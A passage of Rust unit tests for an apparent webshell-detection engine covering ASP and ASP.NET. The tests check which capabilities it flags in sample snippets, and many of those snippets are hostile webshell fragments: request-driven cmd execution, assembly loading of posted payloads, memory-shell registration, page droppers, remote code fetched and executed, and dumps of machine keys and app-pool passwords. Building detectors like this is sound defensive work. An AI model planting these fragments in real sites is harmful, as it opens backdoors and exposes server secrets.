        assert!(ids(&shown).contains(&"page-handler-mapping"));
        assert!(e.severity(&shown) >= Some(Severity::Medium));
        // Naming the type without writing a configuration is not it.
        let read = "var t=Type.GetType(\"System.Web.UI.PageHandlerFactory\");Response.Write(t.FullName);";
        assert!(!ids(&e.assess_code(read, "/site/c.aspx")).contains(&"page-handler-mapping"));
    }

    #[test]
    fn server_secrets_sent_to_the_visitor_are_a_disclosure() {
        let e = engine();
        let dump = "var mk=(MachineKeySection)WebConfigurationManager.GetSection(\"system.web/machineKey\");\n\
                    string v=mk.ValidationKey;\nResponse.Write(\"key=\"+v);";
        let shown = e.assess_code(dump, "/owa/auth/k.aspx");
        assert!(ids(&shown).contains(&"secret-disclosure") && ids(&shown).contains(&"server-secrets"));
        assert!(e.severity(&shown) >= Some(Severity::High));
        // Checking or generating a key sends nothing of it.
        let check = "var mk=(MachineKeySection)WebConfigurationManager.GetSection(\"system.web/machineKey\");\n\
                     if(mk.ValidationKey==\"AutoGenerate,IsolateApps\"){Response.Write(\"auto-generated keys\");}";
        assert!(!ids(&e.assess_code(check, "/admin/diag.aspx")).contains(&"secret-disclosure"));
    }

    #[test]
    fn tunnel_capabilities_combine() {
        let e = engine();
        let code = "string host=Request.Headers.Get(\"X-T\");\nint port=int.Parse(Request.Headers.Get(\"X-P\"));\n\
                    Socket s=new Socket(AddressFamily.InterNetwork,SocketType.Stream,ProtocolType.Tcp);\n\
                    s.Connect(new IPEndPoint(IPAddress.Parse(host),port));\n\
                    byte[] b=Request.BinaryRead(Request.ContentLength);\nResponse.BinaryWrite(buf);";
        let shown = e.assess_code(code, "/site/t.aspx");
        assert_eq!(ids(&shown), vec!["request-network-target", "socket", "body-relay"]);
        assert!(e.severity(&shown) >= Some(Severity::High));
        let finding = e
            .finding(&shown, "/site/t.aspx", &["concat"], Holder::Page { authorizes: false })
            .unwrap_or_else(|| panic!("no finding"));
        assert_eq!(finding.rule.id, "SW-WEBSHELL-CAPABILITIES");
        assert!(finding.evidence.iter().any(|ev| ev.source.starts_with("capability socket")));
    }

    #[test]
    fn loaders_and_memory_shells() {
        let e = engine();
        let loader = "byte[] k=Request.BinaryRead(Request.ContentLength);\n\
                      Assembly.Load(new RijndaelManaged().CreateDecryptor(key,key).TransformFinalBlock(k,0,k.Length)).CreateInstance(\"U\");";
        let shown = e.assess_code(loader, "/x/a.aspx");
        assert!(ids(&shown).contains(&"request-assembly-load"));
        let memshell = "HostingEnvironment.RegisterVirtualPathProvider(new P());\nAssembly.Load(bytes);";
        assert!(ids(&e.assess_code(memshell, "/x/a.aspx")).contains(&"memory-shell-registration"));
        assert!(!ids(&e.assess_code(memshell, "/x/Global.asax")).contains(&"memory-shell-registration"));
    }

    #[test]
    fn pages_planted_memory_shells_configured_and_code_fetched_to_run() {
        let e = engine();
        let dropper = "shell=request(\"txt\")\nset f=fso.CreateTextFile(Server.MapPath(\"up.asp\"))\nf.Write(shell)";
        let shown = e.assess_code(dropper, "/x/a.asp");
        assert!(ids(&shown).contains(&"request-page-write") && e.severity(&shown) >= Some(Severity::High));
        // An installer writes its own code with the visitor's values in it; a page saving the
        // visitor's text as .txt plants nothing.
        let installer = "set f=fso.CreateTextFile(Server.MapPath(\"conn.asp\"))\n\
                         f.Write(\"<\"&\"% db=\"\"\"&request(\"db\")&\"\"\" %\"&\">\")";
        assert!(!ids(&e.assess_code(installer, "/x/a.asp")).contains(&"request-page-write"));
        let note = "set f=fso.CreateTextFile(Server.MapPath(\"note.txt\"))\nf.Write(request(\"t\"))";
        assert!(!ids(&e.assess_code(note, "/x/a.asp")).contains(&"request-page-write"));
        let cs = "File.WriteAllText(Server.MapPath(\"~/x.aspx\"), Request.Form[\"t\"]);";
        assert!(ids(&e.assess_code(cs, "/x/a.aspx")).contains(&"request-page-write"));

        let vpp = "string b=Request.Form[\"body\"];\nHostingEnvironment.RegisterVirtualPathProvider(new P(b));";
        let shown = e.assess_code(vpp, "/x/a.aspx");
        assert!(ids(&shown).contains(&"request-memory-shell") && e.severity(&shown) >= Some(Severity::High));
        let fixed = "HostingEnvironment.RegisterVirtualPathProvider(new P(ConfigurationManager.AppSettings[\"r\"]));";
        assert!(!ids(&e.assess_code(fixed, "/x/a.aspx")).contains(&"request-memory-shell"));

        let loader = "Function G(u)\nSet h=CreateObject(\"MSXML2.ServerXMLHTTP\")\nh.open \"GET\",u,False\nh.send\n\
                      G=h.responseText\nEnd Function\nc=G(\"http://x/1.txt\")\nExecute c";
        assert!(e.assess_code(loader, "/x/a.asp").iter().any(|s| s.id == "fetched-code-run" && s.decisive));
        // A callback named by the page, or JSON from an API, is the page's own code.
        let callback = "Function G(u)\nG=h.responseText\nEnd Function\nv=G(u)\nExecute(\"Call \"&v)";
        assert!(!ids(&e.assess_code(callback, "/x/a.asp")).contains(&"fetched-code-run"));
    }

    #[test]
    fn a_file_the_visitor_names_filled_with_what_the_visitor_sends() {
        let e = engine();
        let shell = "path=request(\"p\")\ndata=request(\"d\")\nset fso=server.createobject(o)\n\
                     set f=fso.createtextfile(path,true)\nf.write data\nf.close";
        let shown = e.assess(shell, "", Dialect::Vb, "/x/a.asp");
        assert!(ids(&shown).contains(&"request-file-content"), "{:?}", ids(&shown));
        assert!(e.severity(&shown) >= Some(Severity::Medium));
        // Near miss: the application's own log file takes request data; Response.Write echoes it.
        let log = "set fso=server.createobject(\"scripting.filesystemobject\")\n\
                   set f=fso.opentextfile(server.mappath(\"log.txt\"),8,true)\nf.write request(\"msg\")\n\
                   response.write request(\"msg\")";
        let shown = e.assess(log, "", Dialect::Vb, "/x/a.asp");
        assert!(!ids(&shown).contains(&"request-file-content"), "{:?}", ids(&shown));
        assert!(e.severity(&shown) < Some(Severity::Medium));
        // Request text into an ADODB.Stream saved as a page; binary Write (upload parsing) is not it.
        let dropper = "set s=server.createobject(\"adodb.stream\")\ns.open\ns.writetext request(\"d\")\n\
                       s.savetofile server.mappath(\"x.asp\"),2";
        let shown = e.assess(dropper, "", Dialect::Vb, "/x/a.asp");
        assert!(ids(&shown).contains(&"request-stream-text") && ids(&shown).contains(&"writes-server-page"));
        assert!(e.severity(&shown) >= Some(Severity::Medium));
        let upload =
            "set s=server.createobject(\"adodb.stream\")\ns.open\ns.write request.binaryread(request.totalbytes)";
        assert!(!ids(&e.assess(upload, "", Dialect::Vb, "/x/a.asp")).contains(&"request-stream-text"));
    }

    #[test]
    fn visitor_sql_on_a_visitor_server_is_a_client_injection_alone_is_not() {
        let e = engine();
        let client = "string c=Request.QueryString[\"conn\"];\nstring q=Request.QueryString[\"sql\"];\n\
                      SqlConnection conn=new SqlConnection(c);\nSqlCommand cmd=new SqlCommand(q,conn);";
        let shown = e.assess_code(client, "/x/a.aspx");
        assert!(ids(&shown).contains(&"request-sql-command") && ids(&shown).contains(&"request-sql-connection"));
        assert!(e.severity(&shown) >= Some(Severity::Medium));
        let injectable = "SqlConnection conn=new SqlConnection(ConfigurationManager.AppSettings[\"db\"]);\n\
                          SqlCommand cmd=new SqlCommand(\"select * from t where id=\"+Request[\"id\"],conn);";
        let shown = e.assess_code(injectable, "/x/a.aspx");
        // a statement the page writes, with a value put in: the application's injection risk
        assert!(!ids(&shown).contains(&"request-sql-command"));
        assert!(e.severity(&shown) < Some(Severity::Medium));
    }

    #[test]
    fn a_path_the_visitor_supplies_whole_is_any_file_on_the_disk() {
        let e = engine();
        let viewer = "file=trim(request(\"file\"))\nset fso=server.createobject(\"scripting.filesystemobject\")\n\
                      set t=fso.opentextfile(file,1)\nresponse.write t.readall";
        let shown = e.assess(viewer, "", Dialect::Vb, "/x/a.asp");
        assert!(ids(&shown).contains(&"visitor-named-path"), "{:?}", ids(&shown));
        assert!(e.severity(&shown) >= Some(Severity::Medium));
        let upload = "string dir=txtDir.Text;\nFile1.PostedFile.SaveAs(dir+\"\\\\\"+Path.GetFileName(File1.PostedFile.FileName));";
        let page = "<input type=\"text\" id=\"txtDir\" runat=\"server\">";
        assert!(ids(&e.assess(upload, page, Dialect::CLike, "/x/a.aspx")).contains(&"visitor-named-path"));
        // Near misses: the application's folder in front (MapPath, a base path, the server's own
        // Request members), or a visitor name deleted (admin pages delete backups by name).
        for code in [
            "file=request(\"file\")\nset t=fso.opentextfile(server.mappath(file),1)",
            "file=request(\"file\")\nset t=fso.opentextfile(BasePath&\"/\"&file,1)",
            "file=\"c:\\\\logs\\\\\"&request(\"file\")\nset t=fso.opentextfile(file,1)",
            "f=Request.PhysicalApplicationPath+\"App_Data\\\\x.txt\";\nFile.ReadAllText(f);",
            "fso.DeleteFile request(\"backup\")",
        ] {
            let shown = e.assess(code, "", Dialect::Vb, "/x/a.asp");
            assert!(!ids(&shown).contains(&"visitor-named-path"), "{code}: {:?}", ids(&shown));
        }
    }

    #[test]
    fn a_connection_string_the_visitor_supplies_whole_is_a_sql_client() {
        let e = engine();
        let client = "connstr=request.form(\"cs\")\nset conn=server.createobject(\"adodb.connection\")\nconn.open connstr\n\
                      set rs=conn.execute(\"select name from sysobjects\")";
        let shown = e.assess(client, "", Dialect::Vb, "/x/a.asp");
        assert!(ids(&shown).contains(&"visitor-connection-string"), "{:?}", ids(&shown));
        assert!(e.severity(&shown) >= Some(Severity::Medium));
        // An installer puts the visitor's server and account into a string it writes.
        let installer = "cs=\"Provider=SQLOLEDB;Data Source=\"&request(\"server\")&\";User ID=\"&request(\"user\")\n\
                         set conn=server.createobject(\"adodb.connection\")\nconn.open cs";
        let shown = e.assess(installer, "", Dialect::Vb, "/x/install.asp");
        assert!(!ids(&shown).contains(&"visitor-connection-string"), "{:?}", ids(&shown));
        assert!(e.severity(&shown) < Some(Severity::Medium));
    }

    #[test]
    fn an_ftp_servers_local_administration_driven_from_a_page_counts() {
        let e = engine();
        let code = "port=request.form(\"port\")\nset x=server.createobject(\"microsoft.xmlhttp\")\n\
                    x.open \"POST\",\"http://127.0.0.1:\"&port&\"/a\",true\n\
                    x.send \"-SETUSERSETUP\"&vbcrlf&\"-IP=0.0.0.0\"\nx.send \"site exec \"&cmd";
        let shown = e.assess(code, "", Dialect::Vb, "/x/a.asp");
        assert!(ids(&shown).contains(&"ftp-server-admin"), "{:?}", ids(&shown));
        assert!(e.severity(&shown) >= Some(Severity::Medium));
        // Near miss: a page that fetches a feed and mentions "site execution" in its text.
        let feed = "set x=server.createobject(\"microsoft.xmlhttp\")\nx.open \"GET\",\"http://feeds.example/rss\",false\n\
                    response.write \"site execution time\"";
        let shown = e.assess(feed, "", Dialect::Vb, "/x/a.asp");
        assert!(!ids(&shown).contains(&"ftp-server-admin"), "{:?}", ids(&shown));
    }

    #[test]
    fn request_data_is_followed_through_calls_returns_buffers_and_declarations() {
        let e = engine();
        let decisive =
            |code: &str, dialect: Dialect, path: &str| e.assess(code, "", dialect, path).iter().any(|s| s.decisive);
        // VBScript procedure called without parentheses, with a function result as argument.
        let bare =
            "Function P(n)\nP=Trim(Request.Form(n))\nEnd Function\nSub Run(t)\nExecuteGlobal t\nEnd Sub\nRun P(\"d\")";
        assert!(decisive(bare, Dialect::Vb, "/x/a.asp"));
        assert!(!decisive("Sub Run(t)\nExecuteGlobal t\nEnd Sub\nRun \"Dim a\"", Dialect::Vb, "/x/a.asp"));
        // JScript helper that returns request data.
        let returned = "function p(n){var v=Request.QueryString(n)+\"\";return v;}\nvar x=p(\"c\");\neval(x);";
        assert!(decisive(returned, Dialect::CLike, "/x/a.asp"));
        let literal = "function p(n){return \"1+1\";}\nvar y=Request(\"c\");\nvar x=p(\"c\");\neval(x);";
        assert!(!decisive(literal, Dialect::CLike, "/x/a.asp"));
        // The request body read into a buffer or copied into a stream, then loaded.
        let read = "Dim buf(Request.ContentLength-1) As Byte\nRequest.InputStream.Read(buf,0,buf.Length)\nDim a As [Assembly]=[Assembly].Load(buf)";
        assert!(decisive(read, Dialect::Vb, "/x/a.aspx"));
        let copied =
            "var ms=new MemoryStream();\nRequest.InputStream.CopyTo(ms);\nbyte[] b=ms.ToArray();\nAssembly.Load(b);";
        assert!(decisive(copied, Dialect::CLike, "/x/a.aspx"));
        let file = "var ms=new MemoryStream();\nFile.OpenRead(Server.MapPath(\"p.dll\")).CopyTo(ms);\nAssembly.Load(ms.ToArray());";
        assert!(!decisive(file, Dialect::CLike, "/x/a.aspx"));
        // VB.NET declarations with a value.
        let declared = "Dim c As String = Request(\"c\")\nProcess.Start(\"cmd.exe\", \"/c \" & c)";
        assert!(decisive(declared, Dialect::Vb, "/x/a.aspx"));
        // `With Request` blocks name the request's members with a leading dot.
        assert!(decisive("With Request\nExecute .Form(\"q\")\nEnd With", Dialect::Vb, "/x/a.asp"));
        assert!(!decisive("With Response\nExecute .Form(\"q\")\nEnd With", Dialect::Vb, "/x/a.asp"));
    }

    #[test]
    fn web_methods_wmi_and_function_values() {
        let e = engine();
        let web_method = "<%@ WebService Language=\"C#\" Class=\"S\" %>\n[WebMethod]\npublic string Run(string exe)\n{\nProcess.Start(exe);\n}";
        let shown = e.assess(web_method, web_method, Dialect::CLike, "/x/a.asmx");
        assert!(ids(&shown).contains(&"request-process"), "{:?}", ids(&shown));
        let wmi = "t=Request.Form(\"l\")\nSet w=GetObject(\"winmgmts:\\\\.\\root\\cimv2\")\nSet p=w.Get(\"Win32_Process\")\nrc=p.Create(\"cmd /c \"&t,Null,Null,pid)";
        assert!(ids(&e.assess(wmi, "", Dialect::Vb, "/x/a.asp")).contains(&"request-wmi-process"));
        let inventory = "Set w=GetObject(\"winmgmts:\")\nFor Each p In w.ExecQuery(\"select * from Win32_Process\")\nResponse.Write p.Name&Request(\"sep\")\nNext";
        assert!(!ids(&e.assess(inventory, "", Dialect::Vb, "/x/a.asp")).contains(&"request-wmi-process"));
        let alias = "var F=Function;\nvar r=new F(\"Response\",Request.Form(\"b\")+\"\");";
        assert!(ids(&e.assess(alias, "", Dialect::CLike, "/x/a.asp")).contains(&"eval-as-value"));
        assert!(
            !ids(&e.assess("var f=function(){};\nf(Request(\"x\"));", "", Dialect::CLike, "/x/a.asp"))
                .contains(&"eval-as-value")
        );
        let pools = "Set p=GetObject(\"IIS://localhost/W3SVC/AppPools\")\nFor Each a In p\nResponse.Write a.WAMUserName&a.WAMUserPass\nNext";
        let shown = e.assess(pools, "", Dialect::Vb, "/x/a.asp");
        assert!(ids(&shown).contains(&"account-passwords") && e.severity(&shown) >= Some(Severity::Medium));
    }

    #[test]
    fn stylesheet_script_and_carried_executables_count() {
        let e = engine();
        let xslt = "set x=Server.CreateObject(\"MSXML2.DOMDocument\")\n\
                    s=\"<msxsl:script language='JScript'>new ActiveXObject('WScript.Shell').Exec(c)</msxsl:script>\"\n\
                    response.write d.transformNode(x)";
        let shown = e.assess(xslt, "", Dialect::Vb, "/x/a.asp");
        assert!(ids(&shown).contains(&"xslt-script"));
        assert!(e.severity(&shown) >= Some(Severity::Medium));
        // Near miss: a stylesheet with script that is never transformed here.
        assert!(
            !ids(&e.assess("s=\"<msxsl:script>f()</msxsl:script>\"", "", Dialect::Vb, "/x/a.asp"))
                .contains(&"xslt-script")
        );
        let dropper = "b=\"MZ\\x90\\x00\\x03\"\nset f=fso.CreateTextFile(p,2)\nf.Write b\n\
                       Set w=CreateObject(\"WScript.Shell\")\nw.run p,0,false";
        let shown = e.assess(dropper, "", Dialect::Vb, "/x/a.asp");
        assert!(ids(&shown).contains(&"embedded-executable"));
        assert!(e.severity(&shown) >= Some(Severity::Medium));
    }

    #[test]
    fn text_that_only_looks_like_evaluation_is_not() {
        let e = engine();
        // a sink's name inside a string written to the browser
        let client = "Response.Write \"<script>eval(x)</script>\"&Request(\"q\")";
        assert!(e.assess(client, "", Dialect::Vb, "/x/a.asp").iter().all(|s| !s.decisive));
        // %XX decoding through Eval("&h"...), JSON parsing through eval("(" + text + ")")
        let hex = "s=Request(\"q\")\nv=eval(\"&h\"+Mid(s,i+1,2))";
        assert!(e.assess(hex, "", Dialect::Vb, "/x/a.asp").iter().all(|s| !s.decisive));
        let json = "function parse(t){return eval(\"(\"+t+\")\");}\nvar o=parse(Request.Form(\"j\"));";
        assert!(e.assess(json, "", Dialect::CLike, "/x/a.asp").iter().all(|s| !s.decisive));
        let declared = "var s=Request.Form(\"j\")+\"\";\neval(\"var _t=(\"+s+\");\");";
        assert!(e.assess(declared, "", Dialect::CLike, "/x/a.asp").iter().all(|s| !s.decisive));
        // Execute(name & "=value") sets a variable the page names at run time.
        let setter = "fn=Request(\"f\")\nexecute(fn&\"=fv\")";
        assert!(e.assess(setter, "", Dialect::Vb, "/x/a.asp").iter().all(|s| !s.decisive));
        // but the same evaluators of request data still are
        let shell = "s=Request(\"q\")\nv=eval(s)";
        assert!(e.assess(shell, "", Dialect::Vb, "/x/a.asp").iter().any(|s| s.decisive));
    }

    #[test]
    fn applications_listing_apis_need_the_visitor_to_drive_them() {
        let e = engine();
        // An installer probing components and writing its own cache page.
        let installer = "Set s=Server.CreateObject(\"ADODB.Stream\")\nSet f=Server.CreateObject(\"Scripting.FileSystemObject\")\n\
                         Set h=Server.CreateObject(\"MSXML2.ServerXMLHTTP\")\ns.SaveToFile Server.MapPath(\"cache/c.asp\"),2";
        let shown = e.assess(installer, "", Dialect::Vb, "/x/install.asp");
        assert!(shown.len() >= 3, "{:?}", ids(&shown));
        assert!(e.severity(&shown) <= Some(Severity::Low), "{:?}", ids(&shown));
        // Server-control properties are posted data in ASP.NET only: an XML node's .Text in
        // classic ASP is not.
        let xml = "Set s=CreateObject(\"ADODB.Stream\")\ns.SaveToFile Server.MapPath(\"/\"&d.Text),2";
        assert!(!ids(&e.assess(xml, "", Dialect::Vb, "/x/a.asp")).contains(&"request-file-write"));
        let page = "<%@ Page Language=\"C#\" %>";
        let net = "File.WriteAllText(txtPath.Text,txtBody.Text);";
        assert!(ids(&e.assess(net, page, Dialect::CLike, "/x/a.aspx")).contains(&"request-file-write"));
    }

    #[test]
    fn bad_data_is_an_error() {
        let text = CAPABILITIES_TOML.replace("kind = \"api\"", "kind = \"bogus\"");
        assert!(CapabilityEngine::from_toml(&text).is_err());
        let text = CAPABILITIES_TOML.replacen("'(?i)\\bRequest\\b'", "'(unclosed'", 1);
        assert!(CapabilityEngine::from_toml(&text).is_err());
    }
}
